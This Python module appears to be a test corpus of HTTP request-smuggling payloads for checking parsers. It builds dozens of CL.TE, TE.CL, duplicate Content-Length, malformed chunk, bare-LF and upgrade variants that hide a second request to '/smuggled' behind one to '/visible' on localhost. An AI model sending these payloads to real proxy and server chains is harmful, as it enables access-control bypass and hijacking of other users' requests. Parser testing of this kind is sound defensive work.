# ruff: noqa: E501
"""Request-smuggling payloads: streams that some parser somewhere has read as more requests than were meant.

Each holds a request for `/visible` and a hidden one for `/smuggled`. `pipelined` marks those in which the second
request is, by the letter of RFC 9112, simply the next one.
"""

from __future__ import annotations

import dataclasses


@dataclasses.dataclass(frozen=True)
class Payload:
    name: str
    data: bytes
    pipelined: bool = False


HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\nX-Tail: "
HIDDEN_WHOLE = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"


def _post(headers: bytes, body: bytes, line: bytes = b"POST /visible HTTP/1.1") -> bytes:
    return line + b"\r\nHost: localhost\r\n" + headers + b"\r\n" + body


def _cl_te(coding_line: bytes) -> bytes:
    """Whoever sees the coding ends at the last chunk; whoever does not, takes all of it by its length."""
    body = b"0\r\n\r\n" + HIDDEN_WHOLE
    return _post(b"Content-Length: %d\r\n%b" % (len(body), coding_line), body)


def _te_cl(coding_line: bytes) -> bytes:
    """Whoever sees the coding takes one chunk; whoever does not, ends after four bytes."""
    chunk = HIDDEN_WHOLE + b"x=1"
    return _post(b"%bContent-Length: 4\r\n" % coding_line, b"%x\r\n%b\r\n0\r\n\r\n" % (len(chunk), chunk))


CODINGS = {
    "plain": b"Transfer-Encoding: chunked\r\n",
    "blank before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab before the colon": b"Transfer-Encoding\t: chunked\r\n",
    "tab before the value": b"Transfer-Encoding:\tchunked\r\n",
    "vertical tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "form feed": b"Transfer-Encoding: \x0cchunked\r\n",
    "no break space": b"Transfer-Encoding: \xa0chunked\r\n",
    "nul": b"Transfer-Encoding: chunked\0\r\n",
    "x prefix": b"Transfer-Encoding: xchunked\r\n",
    "quotes": b'Transfer-Encoding: "chunked"\r\n',
    "capitals": b"TRANSFER-ENCODING: CHUNKED\r\n",
    "identity, chunked": b"Transfer-Encoding: identity, chunked\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n",
    "comma": b"Transfer-Encoding: ,chunked\r\n",
    "trailing comma": b"Transfer-Encoding: chunked,\r\n",
    "parameter": b"Transfer-Encoding: chunked;a=b\r\n",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "twice the other way": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\n",
    "folded name": b"X: y\r\n Transfer-Encoding: chunked\r\n",
    "after a bare lf": b"X: y\nTransfer-Encoding: chunked\r\n",
    "after a bare cr": b"X: y\rTransfer-Encoding: chunked\r\n",
    "underscore": b"Transfer_Encoding: chunked\r\n",
    "blank first": b" Transfer-Encoding: chunked\r\n",
    "nul in the name": b"Transfer-Encoding\0: chunked\r\n",
    "high byte in the name": b"Transfer-Encoding\xff: chunked\r\n",
    "empty": b"Transfer-Encoding:\r\n",
    "named by connection": b"Transfer-Encoding: chunked\r\nConnection: transfer-encoding\r\n",
    "length named by connection": b"Transfer-Encoding: chunked\r\nConnection: content-length\r\n",
}

_LONG = b"%d" % len(HIDDEN_WHOLE)

PAYLOADS: list[Payload] = (
    [Payload(f"cl.te {name}", _cl_te(line)) for name, line in CODINGS.items()]
    + [Payload(f"te.cl {name}", _te_cl(line), pipelined=name == "underscore") for name, line in CODINGS.items()]
    + [
        # two lengths
        Payload("cl.cl small first", _post(b"Content-Length: 0\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("cl.cl large first", _post(b"Content-Length: " + _LONG + b"\r\nContent-Length: 0\r\n", HIDDEN_WHOLE)),
        Payload("cl list", _post(b"Content-Length: 0, " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("cl sign", _post(b"Content-Length: +" + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("cl minus", _post(b"Content-Length: -1\r\n", HIDDEN_WHOLE)),
        Payload("cl minus zero", _post(b"Content-Length: -0\r\n", HIDDEN_WHOLE)),
        Payload("cl blank before the colon", _post(b"Content-Length : " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("cl hex", _post(b"Content-Length: 0x2c\r\n", HIDDEN_WHOLE)),
        Payload("cl octal", _post(b"Content-Length: 0o54\r\n", HIDDEN_WHOLE)),
        Payload("cl decimal point", _post(b"Content-Length: 44.0\r\n", HIDDEN_WHOLE)),
        Payload("cl underscore", _post(b"Content-Length: 4_4\r\n", HIDDEN_WHOLE)),
        Payload("cl blank inside", _post(b"Content-Length: 4 4\r\n", HIDDEN_WHOLE)),
        Payload("cl overflow", _post(b"Content-Length: 18446744073709551616\r\n", HIDDEN_WHOLE)),
        Payload("cl wraps to 44", _post(b"Content-Length: 18446744073709551660\r\n", HIDDEN_WHOLE)),
        Payload("cl vertical tab", _post(b"Content-Length: \x0b44\r\n", HIDDEN_WHOLE)),
        Payload("cl folded", _post(b"Content-Length:\r\n 44\r\n", HIDDEN_WHOLE)),
        Payload("cl empty", _post(b"Content-Length: \r\n", HIDDEN_WHOLE)),
        Payload("cl fullwidth digits", _post(b"Content-Length: \xef\xbc\x94\xef\xbc\x94\r\n", HIDDEN_WHOLE)),
        Payload("cl underscore in the name", _post(b"Content_Length: 44\r\n", HIDDEN_WHOLE), pipelined=True),
        Payload("cl of zero", _post(b"Content-Length: 0\r\n", HIDDEN_WHOLE), pipelined=True),
        Payload("no length", _post(b"", HIDDEN_WHOLE), pipelined=True),
        Payload("get with a length", _post(b"Content-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE, b"GET /visible HTTP/1.1")),
        Payload("head with a length", _post(b"Content-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE, b"HEAD /visible HTTP/1.1")),
        Payload("options with a length", _post(b"Content-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE, b"OPTIONS /visible HTTP/1.1")),
        Payload("delete with a length", _post(b"Content-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE, b"DELETE /visible HTTP/1.1")),
        # chunks
        Payload("chunk size with a sign", _post(CODINGS["plain"], b"+0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk size 0x0", _post(CODINGS["plain"], b"0x0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk size of blanks", _post(CODINGS["plain"], b" \r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk size ended by lf", _post(CODINGS["plain"], b"2\nxx\n0\n\n" + HIDDEN_WHOLE)),
        Payload("chunk ended by lf", _post(CODINGS["plain"], b"2\r\nxx\n0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk ended by two bytes", _post(CODINGS["plain"], b"2\r\nxxyy2d\r\n" + HIDDEN_WHOLE + b"\r\n0\r\n\r\n")),
        Payload("lf in an extension", _post(CODINGS["plain"], b"2;\nxx\r\n2c\r\n0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("cr in an extension", _post(CODINGS["plain"], b"2;\rxx\r\n2c\r\n0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("lf in a quoted extension", _post(CODINGS["plain"], b'2;a="\n"\r\nxx\r\n0\r\n\r\n' + HIDDEN_WHOLE)),
        Payload("chunk size overflow", _post(CODINGS["plain"], b"10000000000000000\r\n0\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk size of 9 digits", _post(CODINGS["plain"], b"000000000\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("last chunk without its blank line", _post(CODINGS["plain"], b"0\r\n" + HIDDEN_WHOLE)),
        Payload("request in the trailer", _post(CODINGS["plain"], b"0\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n")),
        Payload("length in the trailer", _post(CODINGS["plain"], b"0\r\nContent-Length: 44\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("coding in the trailer", _post(CODINGS["plain"], b"0\r\nTransfer-Encoding: chunked\r\n\r\n" + HIDDEN_WHOLE)),
        Payload("chunk holding a request", _post(CODINGS["plain"], b"2c\r\n" + HIDDEN_WHOLE + b"\r\n0\r\n\r\n")),
        Payload("te in http 1.0", _post(CODINGS["plain"], b"0\r\n\r\n" + HIDDEN_WHOLE, b"POST /visible HTTP/1.0")),
        Payload("te in http 1.0, keep-alive", _post(CODINGS["plain"] + b"Connection: keep-alive\r\n", b"0\r\n\r\n" + HIDDEN_WHOLE, b"POST /visible HTTP/1.0")),
        # heads
        Payload("head ended by lf lf", b"GET /visible HTTP/1.1\r\nHost: localhost\n\n" + HIDDEN_WHOLE),
        Payload("head ended by cr cr", b"GET /visible HTTP/1.1\r\nHost: localhost\r\r" + HIDDEN_WHOLE),
        Payload("head ended by lf cr lf", b"GET /visible HTTP/1.1\nHost: localhost\n\r\n" + HIDDEN_WHOLE),
        Payload("request line inside a header", b"GET /visible HTTP/1.1\r\nHost: localhost\r\nX: y\rGET /smuggled HTTP/1.1\r\n\r\n"),
        Payload("request line with two targets", b"GET /visible /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n"),
        Payload("http 0.9 first", b"GET /visible\r\n" + HIDDEN_WHOLE),
        Payload("absolute form of another host", b"GET http://other/visible HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN),
        Payload("two hosts", b"GET /visible HTTP/1.1\r\nHost: localhost\r\nHost: other\r\n\r\n" + HIDDEN),
        Payload("tab in the request line", b"GET /visible\tHTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN),
        Payload("crlf in the target", b"GET /visible%0d%0aX:%20y HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN),
        Payload("lf percent-encoded in a header", b"GET /visible HTTP/1.1\r\nHost: localhost\r\nX: %0d%0aGET /smuggled HTTP/1.1\r\n\r\n"),
        # upgrades, expectations
        Payload("h2c", _post(b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings\r\n", HIDDEN_WHOLE, b"GET /visible HTTP/1.1")),
        Payload("websocket", _post(b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 777\r\n", HIDDEN_WHOLE, b"GET /visible HTTP/1.1")),
        Payload("connect", b"CONNECT localhost:80 HTTP/1.1\r\nHost: localhost:80\r\n\r\n" + HIDDEN_WHOLE),
        Payload("expect, unfinished", _post(b"Expect: 100-continue\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("expect misspelt", _post(b"Expect: y 100-continue\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("expect twice", _post(b"Expect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("expect with blank before the colon", _post(b"Expect : 100-continue\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("length named by connection", _post(b"Connection: Content-Length\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("host named by connection", _post(b"Connection: Host\r\nContent-Length: " + _LONG + b"\r\n", HIDDEN_WHOLE)),
        Payload("http 2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN_WHOLE),
    ]
)  # fmt: skip
